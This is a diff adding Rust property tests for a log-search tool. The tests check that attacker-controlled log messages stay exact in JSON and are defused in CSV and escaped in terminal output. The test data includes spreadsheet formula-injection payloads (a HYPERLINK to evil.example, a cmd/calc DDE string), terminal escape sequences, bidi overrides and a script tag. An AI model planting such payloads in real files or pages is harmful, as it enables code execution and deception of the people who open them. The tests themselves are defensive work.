@@ -1,0 +1,183 @@
+//! What an attacker writes into logs, through every reader and writer that it passes.
+//!
+//! `.ci/run` feeds the properties for about a minute (`PROPTEST_CASES`).
+
+use std::convert::Infallible;
+
+use dragnet::config::Format;
+use dragnet::model::{Happening, Sighting, Stored};
+use dragnet::report::{AccountNames, defuse, escape, write_sightings};
+use dragnet::search::{Matcher, happening};
+use proptest::prelude::*;
+
+use crate::world::World;
+
+const IP: &str = "192.0.2.1";
+
+/// The cases that have a name, each with the address in it.
+fn named() -> Vec<(&'static str, String)> {
+    let record = |time: &str, id: &str| {
+        format!(
+            r#"{{"eventTime":"{time}","eventSource":"s","eventName":"n","awsRegion":"us-east-1","eventID":"{id}","sourceIPAddress":"{IP}"}}"#
+        )
+    };
+    let field = |n: u32| format!("\"{n}\":1,");
+    vec![
+        ("not JSON", format!("{{\"a\": {IP}")),
+        ("10,000 levels", format!("{}\"{IP}\"{}", "[".repeat(10_000), "]".repeat(10_000))),
+        ("10,000 levels of objects", format!("{}\"{IP}\"{}", "{\"a\":".repeat(10_000), "}".repeat(10_000))),
+        ("keys twice", format!(r#"{{"a":"{IP}","a":1,"a":"{IP}"}}"#)),
+        (
+            "a record's keys twice",
+            record("2026-03-02T10:00:00Z", "r").replace("\"eventName\"", "\"eventID\":\"x\",\"eventName\""),
+        ),
+        ("huge numbers", format!(r#"{{"a":1e999999,"b":{},"c":"{IP}"}}"#, "9".repeat(400))),
+        ("lone surrogates", format!(r#"{{"a":"\ud800","b":"{IP}","c":"\udc00\ud800"}}"#)),
+        ("NUL", format!("\0{IP}\0")),
+        ("NUL in JSON", format!(r#"{{"a\u0000b":"\u0000","c":"{IP}"}}"#)),
+        ("an event of 1 MB", format!("{}{IP}", "x ".repeat(500_000))),
+        ("100,000 fields", format!("{{{}\"z\":\"{IP}\"}}", (0..100_000).map(field).collect::<String>())),
+        ("year 0", record("0000-01-01T00:00:00Z", "zero")),
+        ("year 9999", record("9999-12-30T23:59:59Z", "late")),
+        ("no year at all", record("-999999-01-01T00:00:00Z", "none")),
+        ("a formula", format!("=HYPERLINK(\"http://evil.example/?{IP}\")")),
+        ("a command", format!("+cmd|' /C calc'!A0 {IP}")),
+        ("tab and formula", format!("\t@SUM(1) {IP}")),
+        ("escape sequences", format!("\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m {IP}")),
+        ("right to left", format!("\u{202e}{IP} \u{2066}x")),
+        ("quotes and lines", format!("\"\r\n\",\"{IP}\"\n")),
+        ("markup", format!("<script>alert(1)</script> {IP}")),
+    ]
+}
+
+#[tokio::test(start_paused = true)]
+async fn nothing_poisonous_is_dropped_and_nothing_of_it_is_obeyed() {
+    let cases = named();
+    let plant = |message: &String| {
+        let message = toml::Value::String(message.clone());
+        format!(
+            "[[events]]\naccount = \"222222222222\"\nregion = \"eu-west-1\"\ngroup = \"/app\"\nat = \"1h ago\"\n\
+                 stream = \"=1+1\\u001b[2J\"\nmessage = {message}\n"
+        )
+    };
+    let planted: String = cases.iter().map(|(_, message)| plant(message)).collect();
+    let run = World::small_with(&planted).sweep(&[IP, "--since", "24h"]).await;
+    assert_eq!(run.status(), "complete");
+    let lines: Vec<serde_json::Value> =
+        run.file("sightings.jsonl").lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+    for (name, message) in &cases {
+        let found = lines.iter().filter(|line| line["message"] == message.as_str()).count();
+        assert_eq!(found, 1, "{name}: found, and exact in JSON");
+    }
+    assert_eq!(lines.len(), cases.len());
+    assert_eq!(serde_json::from_str::<Vec<serde_json::Value>>(&run.file("sightings.json")).unwrap(), lines);
+    let csv = run.file("sightings.csv");
+    let mut rows = csv::Reader::from_reader(csv.as_bytes());
+    let rows: Vec<csv::StringRecord> = rows.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), cases.len(), "every row has all its columns");
+    assert!(rows.iter().flatten().all(is_harmless_cell));
+}
+
+fn is_harmless_cell(cell: &str) -> bool {
+    !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n'])
+}
+
+/// Text of any characters, the dangerous ones often among them.
+fn poison() -> impl Strategy<Value = String> {
+    let piece = prop_oneof![
+        any::<String>(),
+        "[=+\\-@\t\r\n\"',;|{}\\[\\]:\\\\ \u{0}-\u{1f}\u{7f}-\u{9f}\u{202a}-\u{202e}\u{2066}-\u{2069}\u{feff}]{0,20}",
+        prop::sample::select(vec![
+            IP.to_owned(),
+            "{\"eventTime\":\"".to_owned(),
+            "\\ud800".to_owned(),
+            "1e9999".to_owned(),
+            "2026-03-02T12:00:00Z".to_owned(),
+            "\u{1b}[2J".to_owned(),
+            "{\"a\":[{\"b\":\"".to_owned(),
+        ]),
+    ];
+    prop::collection::vec(piece, 0..8).prop_map(|pieces| pieces.concat())
+}
+
+fn sighting(text: &str) -> Sighting {
+    let text = || text.to_owned();
+    Sighting {
+        stored: Stored {
+            account: "111111111111".parse().unwrap(),
+            region: "us-east-1".parse().unwrap(),
+            log_group: text(),
+            log_stream: text(),
+            event_id: text(),
+            timestamp_ms: i64::MIN,
+            ingestion_ms: i64::MAX,
+        },
+        happening: Happening {
+            account: text(),
+            region: text(),
+            principal_arn: text(),
+            ..happening(&text(), "1", "r", 0)
+        },
+        indicators: vec![text()],
+        matched_fields: vec![text(), text()],
+        copies: 1,
+        own_call: false,
+        message: text(),
+    }
+}
+
+fn report(format: Format, text: &str) -> Vec<u8> {
+    let mut out = Vec::new();
+    let names = AccountNames::from([(text.to_owned(), text.to_owned())]);
+    write_sightings(format, [Ok::<_, Infallible>(sighting(text))], &names, &mut out).unwrap();
+    out
+}
+
+proptest! {
+    #[test]
+    fn a_terminal_gets_nothing_to_obey(text in poison()) {
+        let shown = escape(&text);
+        let obeyed = |c: char| c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
+        prop_assert!(!shown.contains(obeyed));
+    }
+
+    #[test]
+    fn a_spreadsheet_gets_nothing_to_run(text in poison()) {
+        prop_assert!(is_harmless_cell(&defuse(&text)));
+        prop_assert!(defuse(&text).ends_with(&text));
+        let written = report(Format::Csv, &text);
+        let mut rows = csv::Reader::from_reader(&written[..]);
+        let rows: Vec<csv::StringRecord> = rows.records().map(Result::unwrap).collect();
+        prop_assert_eq!(rows.len(), 1);
+        prop_assert!(rows[0].iter().all(is_harmless_cell));
+        prop_assert_eq!(rows[0].iter().next_back().unwrap(), defuse(&text));
+    }
+
+    #[test]
+    fn json_keeps_every_message_exact(text in poison()) {
+        let line: serde_json::Value = serde_json::from_slice(&report(Format::Jsonl, &text)).unwrap();
+        prop_assert_eq!(line["message"].as_str(), Some(text.as_str()));
+        let array: serde_json::Value = serde_json::from_slice(&report(Format::Json, &text)).unwrap();
+        prop_assert_eq!(&array[0], &line);
+    }
+
+    #[test]
+    fn what_stands_free_in_a_text_is_found_in_whatever_surrounds_it(before in poison(), after in poison()) {
+        let matcher = Matcher::new(&[IP.parse().unwrap()]).unwrap();
+        // A backslash before it would spell another character in JSON.
+        prop_assume!(!before.ends_with('\\'));
+        let message = format!("{before} {IP} {after}");
+        prop_assert!(matcher.find(&message).is_some(), "{message:?}");
+        let value = serde_json::to_string(&message).unwrap();
+        prop_assert!(matcher.find(&format!("{{\"a\":{value}}}")).is_some(), "{value:?}");
+    }
+
+    #[test]
+    fn every_reader_takes_every_text(text in poison(), stored in any::<i64>()) {
+        let told = happening(&text, "111111111111", "us-east-1", stored);
+        prop_assert!(!told.record_id.is_empty() || told.time_ms == stored);
+        let all = ["192.0.2.0/24", "2001:db8::/32", "AKIAIOSFODNN7EXAMPLE", "arn:aws:iam::111111111111:user/a", "x"];
+        let all: Vec<_> = all.iter().map(|text| text.parse().unwrap()).collect();
+        _ = Matcher::new(&all).unwrap().find(&text);
+    }
+}
